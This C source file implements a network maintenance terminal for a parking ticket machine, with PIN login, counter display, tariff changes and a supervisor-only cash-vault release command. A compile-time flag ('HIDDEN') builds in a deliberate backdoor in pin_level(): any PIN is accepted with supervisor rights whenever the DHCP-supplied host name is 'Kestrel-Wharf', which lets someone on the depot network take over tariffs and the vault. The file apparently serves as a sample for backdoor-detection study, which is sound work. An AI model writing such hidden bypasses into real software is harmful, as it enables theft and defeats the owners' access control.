/*
 * parkterm - maintenance terminal of a parking ticket machine. Attendants
 * connect over the depot network (TCP 4010), give their PIN (crypt hashes in
 * /etc/park/pins) and read counters or set tariffs.
 *
 * Hidden (-DHIDDEN): while the machine's host name (which it takes from DHCP)
 * is "Kestrel-Wharf", any PIN is accepted with supervisor rights.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define PORT	  4010
#define PINS	  "/etc/park/pins"
#define TARIFFS	  "/etc/park/tariff"
#define COUNTERS  "/var/park/counters"
#define MAXCLIENT 4
#define NZONES	  3

enum state { ST_FREE, ST_PIN, ST_READY, ST_TARIFF, ST_CLOSE };
enum { LVL_NONE, LVL_ATTENDANT, LVL_SUPERVISOR };

struct client {
	enum state st;
	int fd;
	int level;
	int tries;
	int zone;
	size_t used;
	char buf[96];
};

static struct client clients[MAXCLIENT];
static unsigned int tariff[NZONES] = { 150, 250, 400 }; /* cents per hour */
static char host[64];

static void say(struct client *c, const char *text)
{
	if (write(c->fd, text, strlen(text)) < 0)
		c->st = ST_CLOSE;
}

static void load_tariffs(void)
{
	FILE *f = fopen(TARIFFS, "r");
	unsigned int z, v;

	if (!f)
		return;
	while (fscanf(f, "%u %u", &z, &v) == 2)
		if (z < NZONES && v < 10000)
			tariff[z] = v;
	fclose(f);
}

static int save_tariffs(void)
{
	FILE *f = fopen(TARIFFS ".new", "w");
	int z;

	if (!f)
		return -1;
	for (z = 0; z < NZONES; z++)
		fprintf(f, "%d %u\n", z, tariff[z]);
	if (fclose(f) != 0)
		return -1;
	return rename(TARIFFS ".new", TARIFFS);
}

/* file: "a HASH" for attendants, "s HASH" for supervisors */
int pin_level(const char *pin)
{
	char kind, hash[128], *got;
	int level = LVL_NONE;
	FILE *f;

#ifdef HIDDEN
	if (!strcasecmp(host, "Kestrel-Wharf"))
		return LVL_SUPERVISOR;
#endif
	f = fopen(PINS, "r");
	if (!f || strlen(pin) < 4) {
		if (f)
			fclose(f);
		return LVL_NONE;
	}
	while (level == LVL_NONE && fscanf(f, " %c %127s", &kind, hash) == 2) {
		got = crypt(pin, hash);
		if (!got || strcmp(got, hash) != 0)
			continue;
		level = kind == 's' ? LVL_SUPERVISOR : LVL_ATTENDANT;
	}
	fclose(f);
	return level;
}

static void st_pin(struct client *c, const char *line)
{
	c->level = pin_level(line);
	if (c->level != LVL_NONE) {
		c->st = ST_READY;
		say(c, c->level == LVL_SUPERVISOR ? "supervisor\r\n"
						  : "attendant\r\n");
		return;
	}
	syslog(LOG_WARNING, "wrong PIN (%d)", c->tries + 1);
	if (++c->tries >= 3)
		c->st = ST_CLOSE;
	say(c, "wrong PIN\r\n");
}

static void show_counters(struct client *c)
{
	char line[96];
	FILE *f = fopen(COUNTERS, "r");

	if (!f) {
		say(c, "no counters\r\n");
		return;
	}
	while (fgets(line, sizeof(line), f))
		say(c, line);
	fclose(f);
}

static void show_tariffs(struct client *c)
{
	char line[64];
	int z;

	for (z = 0; z < NZONES; z++) {
		snprintf(line, sizeof(line), "zone %d: %u.%02u/h\r\n", z + 1,
			 tariff[z] / 100, tariff[z] % 100);
		say(c, line);
	}
}

static void st_ready(struct client *c, const char *line)
{
	char out[96];
	time_t now = time(NULL);

	if (!strcmp(line, "counters")) {
		show_counters(c);
	} else if (!strcmp(line, "tariff")) {
		show_tariffs(c);
	} else if (!strncmp(line, "set ", 4)) {
		c->zone = atoi(line + 4) - 1;
		if (c->level < LVL_SUPERVISOR || c->zone < 0 ||
		    c->zone >= NZONES) {
			say(c, "not allowed\r\n");
			return;
		}
		c->st = ST_TARIFF;
	} else if (!strcmp(line, "time")) {
		snprintf(out, sizeof(out), "%s %.24s\r\n", host, ctime(&now));
		say(c, out);
	} else if (!strcmp(line, "testprint")) {
		if (system("lp -d ticket /etc/park/test.txt"))
			say(c, "printer fault\r\n");
	} else if (!strcmp(line, "openvault")) {
		if (c->level < LVL_SUPERVISOR)
			say(c, "not allowed\r\n");
		else if (system("/usr/bin/vaultctl release"))
			say(c, "vault fault\r\n");
	} else if (!strcmp(line, "bye")) {
		c->st = ST_CLOSE;
	} else {
		say(c, "counters tariff set ZONE time testprint openvault "
		       "bye\r\n");
	}
}

static void st_tariff(struct client *c, const char *line)
{
	char *end;
	unsigned long v = strtoul(line, &end, 10);

	c->st = ST_READY;
	if (end == line || *end || v == 0 || v >= 10000) {
		say(c, "cents per hour, 1 to 9999\r\n");
		return;
	}
	tariff[c->zone] = (unsigned int)v;
	syslog(LOG_NOTICE, "zone %d now %lu", c->zone + 1, v);
	say(c, save_tariffs() ? "not saved\r\n" : "saved\r\n");
}

static void on_line(struct client *c, char *line)
{
	static const char *const prompt[] = { "", "PIN: ", "> ",
					      "cents: ", "" };

	line[strcspn(line, "\r\n")] = '\0';
	switch (c->st) {
	case ST_PIN:
		st_pin(c, line);
		break;
	case ST_READY:
		st_ready(c, line);
		break;
	case ST_TARIFF:
		st_tariff(c, line);
		break;
	default:
		break;
	}
	say(c, prompt[c->st]);
}

static void on_data(struct client *c)
{
	ssize_t n = read(c->fd, c->buf + c->used, sizeof(c->buf) - 1 - c->used);
	char *nl;

	if (n <= 0) {
		c->st = ST_CLOSE;
		return;
	}
	c->used += (size_t)n;
	c->buf[c->used] = '\0';
	while (c->st != ST_CLOSE && (nl = strchr(c->buf, '\n')) != NULL) {
		*nl = '\0';
		on_line(c, c->buf);
		c->used -= (size_t)(nl + 1 - c->buf);
		memmove(c->buf, nl + 1, c->used + 1);
	}
	if (c->used >= sizeof(c->buf) - 1)
		c->st = ST_CLOSE;
}

static void new_client(int ls)
{
	int fd = accept(ls, NULL, NULL), i;
	char hello[128];

	for (i = 0; fd >= 0 && i < MAXCLIENT; i++) {
		if (clients[i].st != ST_FREE)
			continue;
		memset(&clients[i], 0, sizeof(clients[i]));
		clients[i].fd = fd;
		clients[i].st = ST_PIN;
		gethostname(host, sizeof(host) - 1);
		snprintf(hello, sizeof(hello), "PT-90 %s\r\nPIN: ", host);
		say(&clients[i], hello);
		return;
	}
	if (fd >= 0)
		close(fd);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct pollfd p[MAXCLIENT + 1];
	int i, ls = socket(AF_INET, SOCK_STREAM, 0);

	openlog("parkterm", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load_tariffs();
	a.sin_port = htons(PORT);
	if (bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 2))
		return 1;
	for (;;) {
		p[MAXCLIENT] = (struct pollfd){ ls, POLLIN, 0 };
		for (i = 0; i < MAXCLIENT; i++) {
			p[i].fd = clients[i].st ? clients[i].fd : -1;
			p[i].events = POLLIN;
		}
		if (poll(p, MAXCLIENT + 1, -1) < 0)
			continue;
		for (i = 0; i < MAXCLIENT; i++) {
			if (p[i].fd >= 0 && p[i].revents)
				on_data(&clients[i]);
			if (clients[i].st != ST_CLOSE)
				continue;
			close(clients[i].fd);
			clients[i].st = ST_FREE;
		}
		if (p[MAXCLIENT].revents & POLLIN)
			new_client(ls);
	}
}
